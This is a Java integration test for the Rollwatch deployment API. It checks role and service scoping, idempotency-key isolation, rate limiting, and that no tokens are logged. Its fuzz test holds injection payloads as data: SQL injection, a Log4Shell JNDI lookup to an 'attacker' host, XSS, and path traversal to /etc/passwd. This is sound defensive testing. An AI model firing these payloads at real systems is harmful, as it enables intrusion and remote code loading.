package dev.rollwatch.deploy;

import dev.rollwatch.events.Topics;
import dev.rollwatch.testsupport.KafkaTestClient;
import dev.rollwatch.testsupport.LogCapture;
import dev.rollwatch.testsupport.RollwatchInfraResource;
import dev.rollwatch.testsupport.SecurityMatrix;
import dev.rollwatch.testsupport.SecurityMatrix.Caller;
import dev.rollwatch.testsupport.SecurityMatrix.Cell;
import dev.rollwatch.testsupport.TestTokens;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.function.Supplier;

import static dev.rollwatch.deploy.Rollouts.awaitStatus;
import static dev.rollwatch.testsupport.SecurityMatrix.get;
import static dev.rollwatch.testsupport.SecurityMatrix.post;
import static dev.rollwatch.testsupport.SecurityMatrix.put;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Who may call what (docs/security.md): every endpoint × every kind of caller, the status of each cell asserted;
 * a deployer is confined to its services; refused changes change nothing; fuzzed bodies get 4xx problem+json
 * only; no log line carries a token.
 */
@QuarkusTest
@QuarkusTestResource(value = RollwatchInfraResource.class, restrictToAnnotatedClass = false)
class DeploySecurityIT {

    private static final String SERVICE = "sec-" + UUID.randomUUID().toString().substring(0, 8);
    private static final String OTHER_SERVICE = SERVICE + "-other";
    private static final String GATE = "[{\"setWeight\": 5}, {\"pause\": {}}, {\"setWeight\": 100}]";
    private static final AtomicInteger ENVIRONMENTS = new AtomicInteger();
    private static final String JWT_VALIDATOR = "io.quarkus.smallrye.jwt.runtime.auth.MpJwtValidator";
    private static LogCapture log;
    /** The validator's reasons for refusing tokens: each exception chain as class: message, no token text. */
    private static final List<String> REASONS = new java.util.concurrent.CopyOnWriteArrayList<>();
    private static final java.util.logging.Handler REFUSALS = new java.util.logging.Handler() {
        @Override
        public void publish(java.util.logging.LogRecord record) {
            StringBuilder chain = new StringBuilder();
            for (Throwable t = record.getThrown(); t != null && chain.length() < 2000; t = t.getCause()) {
                chain.append(" <- ").append(t.getClass().getSimpleName()).append(": ").append(t.getMessage());
            }
            if (!chain.isEmpty()) {
                REASONS.add(chain.substring(4).replaceAll("eyJ[A-Za-z0-9_-]+\\.[A-Za-z0-9_.-]+", "<token>"));
            }
        }

        @Override
        public void flush() {
        }

        @Override
        public void close() {
        }
    };
    private static final HttpClient HTTP = HttpClient.newHttpClient();
    private static KafkaTestClient kafka;

    /** The callers of the matrix: six bad tokens (every role, every service) and the roles with and without scope. */
    private static final List<Caller> CALLERS = new ArrayList<>();

    @BeforeAll
    static void setUp() {
        log = LogCapture.start();
        // A valid token was refused once in CI (a 401 for the operator, never reproduced since): keep the reason
        // the validator gives at debug level, in this test only. Its debug records carry the token, so they go to
        // REFUSALS alone (only the exception chain's messages are kept), never to the log assertNoTokenLogged reads.
        java.util.logging.Logger validator = java.util.logging.Logger.getLogger(JWT_VALIDATOR);
        validator.setUseParentHandlers(false);
        validator.addHandler(REFUSALS);
        validator.setLevel(java.util.logging.Level.FINE);
        kafka = KafkaTestClient.forTestBroker();
        CALLERS.addAll(Caller.badTokens());
        CALLERS.add(Caller.of("deployer", "dee", "deployer").services(SERVICE));
        // An operator of every service ('*'); without a services claim an operator acts on no service (issue 17).
        CALLERS.add(Caller.of("operator", "otto", "operator").services("*"));
        CALLERS.add(Caller.of("operator, no services", "otto-nowhere", "operator"));
        CALLERS.add(Caller.of("deployer and admin, no services", "dee-admin", "deployer", "admin"));
        CALLERS.add(Caller.of("auditor", "audrey", "auditor"));
        CALLERS.add(Caller.of("admin", "adam", "admin"));
        CALLERS.add(Caller.of("agent", "agent-7", "agent"));
        CALLERS.add(Caller.of("deployer, no services", "nobody", "deployer"));
    }

    @AfterAll
    static void tearDown() {
        log.stop();
        java.util.logging.Logger validator = java.util.logging.Logger.getLogger(JWT_VALIDATOR);
        validator.setLevel(null);
        validator.removeHandler(REFUSALS);
        validator.setUseParentHandlers(true);
        kafka.close();
    }

    private static String caller(String name) {
        return CALLERS.stream().filter(c -> c.name().equals(name)).findFirst().orElseThrow().authorization();
    }

    /**
     * Every endpoint × every caller ({@link SecurityMatrix}). Tokens without a services claim act on no service,
     * whatever their roles: they list nothing (200, empty) and are refused every object. An allowed change gets a
     * deployment of its own, so the cells do not depend on each other; every refused call is aimed at one deployment
     * waiting at its gate, which must not move.
     */
    @Test
    void everyEndpointAnswersEveryCallerAsTheMatrixSays() {
        String shared = startGated(SERVICE);
        Map<String, Object> before = view(shared);
        Function<String, Function<Cell, String>> ofDeployment = action -> cell -> "/api/v1/deployments/"
                + (cell.allowed() ? startGated(SERVICE) : shared) + action;
        SecurityMatrix matrix = SecurityMatrix.of(CALLERS).endpoints(List.of(
                        post("/api/v1/deployments", (Supplier<String>) () -> createBody(SERVICE))
                                .roles("deployer").scope(SERVICE).ok(202),
                        get("/api/v1/deployments").roles("deployer", "operator"),
                        get("/{id}").path(ofDeployment.apply("")).roles("deployer", "operator").scope(SERVICE),
                        get("/{id}/events").path(ofDeployment.apply("/events")).streamed("text/event-stream")
                                .roles("deployer", "operator").scope(SERVICE),
                        get("/{id}/report").path(ofDeployment.apply("/report")).roles("deployer", "operator")
                                .scope(SERVICE),
                        post("/{id}/approve", "{\"reason\": \"ok\"}").path(ofDeployment.apply("/approve"))
                                .roles("operator").scope(SERVICE),
                        post("/{id}/abort", "{\"reason\": \"stop\"}").path(ofDeployment.apply("/abort"))
                                .roles("deployer", "operator").scope(SERVICE),
                        post("/{id}/promote", "{\"reason\": \"go\"}").path(ofDeployment.apply("/promote"))
                                .roles("operator").scope(SERVICE),
                        // Admission: an override needs the operator role as well as the deployer's (no caller here
                        // has both).
                        post("/api/v1/deployments",
                                (Supplier<String>) () -> AdmissionIT.withOverride(createBody(SERVICE), "matrix"))
                                .label("POST /deployments with override").roles("deployer").scope(SERVICE)
                                .expect(403, null, "deployer"),
                        get("/api/v1/deployment-policies/" + SERVICE + "/production")
                                .label("GET /deployment-policies/{s}/{e}").roles("deployer", "operator")
                                .scope(SERVICE),
                        // An empty policy (always open) changes nothing a later cell depends on.
                        put("/api/v1/deployment-policies/" + SERVICE + "/matrix", "{\"reason\": \"matrix\"}")
                                .label("PUT /deployment-policies/{s}/{e}").roles("operator").scope(SERVICE),
                        get("/api/v1/services/" + SERVICE + "/summary").label("GET /services/{s}/summary")
                                .roles("deployer", "operator").scope(SERVICE)))
                .explainMismatch(r -> r.statusCode() == 401 ? " — the service said: " + whyRefused() : "");
        assertThat(matrix.check()).isEqualTo(12 * 14);
        // Nothing refused moved the shared deployment, and no refused create started one.
        assertThat(view(shared)).isEqualTo(before);
        assertThat(kafka.eventsAbout(Topics.DEPLOYMENT_COMMANDS, shared)).isEmpty();
        assertNoTokenLogged();
    }

    @Test
    void aDeployerOfOneServiceCannotSeeOrTouchAnotherServicesDeployments() {
        String mine = startGated(SERVICE);
        String theirs = startGated(OTHER_SERVICE);
        String dee = caller("deployer");
        Map<String, Object> before = view(theirs);

        for (String path : List.of("", "/report", "/events")) {
            Response r = call(dee, "GET", "/api/v1/deployments/" + theirs + path, null);
            assertThat(r.statusCode()).as("GET " + path).isEqualTo(403);
            assertThat(r.jsonPath().getString("type")).isEqualTo("https://rollwatch.dev/problems/forbidden-service");
        }
        assertThat(call(dee, "POST", "/api/v1/deployments/" + theirs + "/abort", "{}").statusCode()).isEqualTo(403);
        for (String path : List.of("/api/v1/deployment-policies/" + OTHER_SERVICE + "/production",
                "/api/v1/services/" + OTHER_SERVICE + "/summary")) {
            Response r = call(dee, "GET", path, null);
            assertThat(r.statusCode()).as("GET " + path).isEqualTo(403);
            assertThat(r.jsonPath().getString("type")).isEqualTo("https://rollwatch.dev/problems/forbidden-service");
        }
        // An operator of one service cannot set a policy for another, nor one for every service ('*').
        String scopedOperator = TestTokens.builder().subject("otto2").roles("operator").services(SERVICE).bearer();
        assertThat(call(scopedOperator, "PUT", "/api/v1/deployment-policies/" + OTHER_SERVICE + "/production",
                "{\"reason\": \"x\"}").statusCode()).isEqualTo(403);
        assertThat(call(scopedOperator, "PUT", "/api/v1/deployment-policies/*/production",
                "{\"reason\": \"x\"}").statusCode()).isEqualTo(403);
        assertThat(call(dee, "POST", "/api/v1/deployments", createBody(OTHER_SERVICE)).statusCode()).isEqualTo(403);
        assertThat(call(dee, "GET", "/api/v1/deployments?service=" + OTHER_SERVICE, null).statusCode())
                .isEqualTo(403);
        List<String> listed = call(dee, "GET", "/api/v1/deployments?size=200", null).jsonPath()
                .getList("items.service", String.class);
        assertThat(listed).contains(SERVICE).doesNotContain(OTHER_SERVICE).allMatch(SERVICE::equals);
        // An Idempotency-Key another team used does not hand out its deployment to a caller of another service.
        String key = UUID.randomUUID().toString();
        String keyed = given().header("Authorization", TestTokens.builder().subject("other-team").roles("deployer")
                .services(OTHER_SERVICE).bearer()).header("Idempotency-Key", key).contentType(ContentType.JSON)
                .body(createBody(OTHER_SERVICE)).when().post("/api/v1/deployments").then().statusCode(202)
                .extract().path("id");
        Response replayed = given().header("Authorization", dee).header("Idempotency-Key", key)
                .contentType(ContentType.JSON).body(createBody(SERVICE)).when().post("/api/v1/deployments")
                .thenReturn();
        assertThat(replayed.statusCode()).as("another team's key").isEqualTo(403);
        assertThat(replayed.jsonPath().getString("type")).isEqualTo("https://rollwatch.dev/problems/forbidden-service");
        assertThat(replayed.asString()).doesNotContain(keyed);
        // A deployer with no services sees an empty list, not everything; so does an operator without a claim,
        // and a deployer whose token also holds admin (admin alone may act on every service: not with a deployer).
        for (String nowhere : List.of("deployer, no services", "operator, no services",
                "deployer and admin, no services")) {
            assertThat(call(caller(nowhere), "GET", "/api/v1/deployments", null).jsonPath().getList("items"))
                    .as(nowhere).isEmpty();
        }
        assertThat(call(caller("operator, no services"), "GET", "/api/v1/deployments/" + mine, null)
                .statusCode()).isEqualTo(403);
        assertThat(call(caller("deployer and admin, no services"), "POST", "/api/v1/deployments",
                createBody(SERVICE)).statusCode()).isEqualTo(403);
        // The services claim may also be a comma-separated string.
        String listedAsString = TestTokens.builder().subject("dee2").roles("deployer")
                .servicesAsString(SERVICE + "," + OTHER_SERVICE).bearer();
        assertThat(call(listedAsString, "GET", "/api/v1/deployments/" + theirs, null).statusCode()).isEqualTo(200);
        assertThat(call(dee, "GET", "/api/v1/deployments/" + mine, null).statusCode()).isEqualTo(200);
        assertThat(view(theirs)).isEqualTo(before);
        assertNoTokenLogged();
    }

    @Test
    void whoActedIsTheTokensSubjectInTheViewAndTheEvents() {
        String id = startGated(SERVICE); // started by "dee"
        assertThat(view(id).get("requestedBy")).isEqualTo("dee");
        call(caller("operator"), "POST", "/api/v1/deployments/" + id + "/promote", "{\"reason\": \"go\"}")
                .then().statusCode(200);
        assertThat(view(id).get("promotedBy")).isEqualTo("otto");
        var started = kafka.awaitEvent(Topics.DEPLOYMENT_STARTED, id, dev.rollwatch.events.DeploymentStarted.class,
                Rollouts.WAIT);
        assertThat(started.data().requestedBy()).isEqualTo("dee");
    }

    @Test
    void fuzzedBodiesGetFourHundredsAndStartNothing() {
        String dee = caller("deployer");
        String env = "fuzz";
        String good = createBody(SERVICE, env);
        List<String> bodies = List.of(
                good.replace("\"service\": \"" + SERVICE + "\"", "\"service\": 5"),
                good.replace("\"version\": \"2.4.0\"", "\"version\": true"),
                good.replace("\"version\": \"2.4.0\"", "\"version\": {\"$gt\": \"\"}"),
                good.replace("{\"setWeight\": 5}", "{\"setWeight\": \"5\"}"),
                good.replace("{\"setWeight\": 5}", "{\"setWeight\": 5.5}"),
                good.replace("\"version\": \"2.4.0\"", "\"version\": \"2.4.0\", \"requestedBy\": \"the-cto\""),
                good.replace("\"version\": \"2.4.0\"", "\"version\": \"2.4.0\", \"status\": \"SUCCEEDED\""),
                good.replace("\"service\": \"" + SERVICE + "\"", "\"service\": \"'; DROP TABLE deployment;--\""),
                good.replace("\"version\": \"2.4.0\"", "\"version\": \"${jndi:ldap://attacker/x}\""),
                good.replace("\"version\": \"2.4.0\"", "\"version\": \"<script>alert(1)</script>\""),
                good.replace("\"environment\": \"" + env + "\"", "\"environment\": \"../../etc/passwd\""),
                good.substring(0, good.length() / 2),
                "[]", "null", "\"a string\"", "",
                good.replace("\"version\": \"2.4.0\"", "\"version\": \"" + "9".repeat(2 * 1024 * 1024) + "\""));
        for (String body : bodies) {
            Response r = call(dee, "POST", "/api/v1/deployments", body);
            String what = body.length() > 5000 ? "a body of " + body.length() + " chars" : body;
            assertThat(r.statusCode()).as(what + " → " + r.asString()).isBetween(400, 499);
            assertProblem(r, what);
            assertThat(r.asString()).as("no internals in " + what).doesNotContainIgnoringCase("exception")
                    .doesNotContain("dev.rollwatch").doesNotContain("com.fasterxml");
        }
        assertThat(call(dee, "POST", "/api/v1/deployments", good.replace("\"version\": \"2.4.0\"",
                "\"version\": \"" + "9".repeat(2 * 1024 * 1024) + "\"")).statusCode()).isEqualTo(413);
        // A body of undeclared length (chunked) is refused before it is read, whatever its size.
        for (String body : List.of(good, good.replace("\"version\": \"2.4.0\"",
                "\"version\": \"" + "9".repeat(2 * 1024 * 1024) + "\""))) {
            try {
                byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
                HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(URI.create("http://localhost:"
                        + io.restassured.RestAssured.port + "/api/v1/deployments")).version(HttpClient.Version.HTTP_1_1)
                        .header("Authorization", dee).header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new java.io.ByteArrayInputStream(bytes)))
                        .build(), HttpResponse.BodyHandlers.ofString());
                assertThat(r.statusCode()).as("chunked " + bytes.length + " bytes").isEqualTo(411);
                assertThat(r.headers().firstValue("content-type")).hasValue("application/problem+json");
                assertThat(r.body()).contains("https://rollwatch.dev/problems/length-required");
            } catch (IOException e) {
                // The server may close before the client has sent everything: the refusal is what was sent.
                assertThat(bytes(body)).as("only a large body may be cut off: " + e).isGreaterThan(1024 * 1024);
            } catch (InterruptedException e) {
                throw new IllegalStateException(e);
            }
        }
        // Nothing was started: the service and environment are still free.
        assertThat(call(dee, "GET", "/api/v1/deployments?service=" + SERVICE + "&environment=" + env, null)
                .jsonPath().getInt("total")).isZero();
        // Free text is text: an injection string in a reason is stored and returned as it was, harmlessly.
        String id = startGated(SERVICE);
        String reason = "'; DROP TABLE deployment;-- <script>alert(1)</script> ${jndi:ldap://x}";
        call(dee, "POST", "/api/v1/deployments/" + id + "/abort",
                "{\"reason\": \"" + reason.replace("\"", "\\\"") + "\"}").then().statusCode(200);
        assertThat(view(id).get("statusReason").toString()).contains(reason);
        assertNoTokenLogged();
    }

    @Test
    void tooManyChangesFromOneIdentityAre429WithRetryAfterAndOthersAreNotHeldUp() {
        String flood = TestTokens.builder().subject("flood-" + UUID.randomUUID()).roles("deployer")
                .services(SERVICE).bearer();
        // Invalid creates are cheap and still count: the limit is on requests, whatever their fate. Sent from 16
        // threads at once, so the refill (10/s) cannot keep up whatever the machine's speed.
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(16);
        List<Response> responses;
        try {
            List<java.util.concurrent.Future<Response>> sent = new ArrayList<>();
            for (int i = 0; i < 240; i++) {
                sent.add(pool.submit(() -> call(flood, "POST", "/api/v1/deployments", "{}")));
            }
            responses = new ArrayList<>();
            for (var f : sent) {
                responses.add(f.get());
            }
        } catch (Exception e) {
            throw new IllegalStateException(e);
        } finally {
            pool.shutdownNow();
        }
        assertThat(responses).extracting(Response::statusCode).containsOnly(400, 429);
        long accepted = responses.stream().filter(r -> r.statusCode() == 400).count();
        Response limited = responses.stream().filter(r -> r.statusCode() == 429).findFirst().orElse(null);
        assertThat(limited).as("429 among 240 requests at once").isNotNull();
        assertThat(accepted).isGreaterThanOrEqualTo(60); // the default burst
        assertProblem(limited, "429");
        assertThat(Integer.parseInt(limited.header("Retry-After"))).isBetween(1, 60);
        // Reads are not limited, and another identity is not held up by the flood.
        assertThat(call(flood, "GET", "/api/v1/deployments", null).statusCode()).isEqualTo(200);
        assertThat(call(caller("deployer"), "POST", "/api/v1/deployments", "{}").statusCode()).isEqualTo(400);
    }

    private static int bytes(String body) {
        return body.getBytes(StandardCharsets.UTF_8).length;
    }

    /** Why the service refused a token (the validator's last reasons), for a cell that should have passed. */
    private static List<String> whyRefused() {
        List<String> all = List.copyOf(REASONS);
        return all.subList(Math.max(0, all.size() - 3), all.size());
    }

    private static void assertNoTokenLogged() {
        log.assertNoneContains(CALLERS.stream().map(Caller::token).filter(t -> t != null).toList());
    }

    private static void assertProblem(Response r, String what) {
        assertThat(r.contentType()).as(what).startsWith("application/problem+json");
        assertThat(r.jsonPath().getInt("status")).as(what).isEqualTo(r.statusCode());
        assertThat(r.jsonPath().getString("type")).as(what).startsWith("https://rollwatch.dev/problems/");
    }

    private static Response call(String authorization, String method, String path, String body) {
        if (path.endsWith("/events")) {
            return openStream(authorization, path);
        }
        RequestSpecification spec = given().header("Authorization", authorization);
        if (body != null) {
            spec = spec.contentType(ContentType.JSON).body(body);
        } else if (method.equals("POST")) {
            spec = spec.contentType(ContentType.JSON);
        }
        return spec.when().request(method, path).thenReturn();
    }

    /** Opens a live stream, keeps its status and headers (and the body of a refusal), and closes it. */
    private static Response openStream(String authorization, String path) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:"
                + io.restassured.RestAssured.port + path)).header("Accept", "text/event-stream")
                .timeout(Duration.ofSeconds(10));
        if (!"none".equals(authorization)) {
            request.header("Authorization", authorization);
        }
        try {
            HttpResponse<InputStream> r = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofInputStream());
            String body;
            try (InputStream in = r.body()) {
                body = r.statusCode() == 200 ? "" : new String(in.readAllBytes(), StandardCharsets.UTF_8);
            }
            var built = new io.restassured.builder.ResponseBuilder().setStatusCode(r.statusCode()).setBody(body)
                    .setContentType(r.headers().firstValue("content-type").orElse(""));
            r.headers().firstValue("www-authenticate").ifPresent(v -> built.setHeader("WWW-Authenticate", v));
            return built.build();
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException("GET " + path + ": " + e, e);
        }
    }

    private static String createBody(String service) {
        return createBody(service, "env-" + ENVIRONMENTS.incrementAndGet());
    }

    private static String createBody(String service, String environment) {
        return Rollouts.body(service, environment, GATE);
    }

    /** Starts a deployment of {@code service} (by "dee", or an all-services deployer) and waits at its gate. */
    private static String startGated(String service) {
        String who = service.equals(SERVICE) ? caller("deployer")
                : TestTokens.builder().subject("other-team").roles("deployer").services(service).bearer();
        String id = call(who, "POST", "/api/v1/deployments", createBody(service)).then().statusCode(202)
                .extract().path("id");
        awaitStatus(id, "AWAITING_APPROVAL");
        return id;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> view(String id) {
        return given().when().get("/api/v1/deployments/" + id).then().statusCode(200).extract().as(Map.class);
    }
}
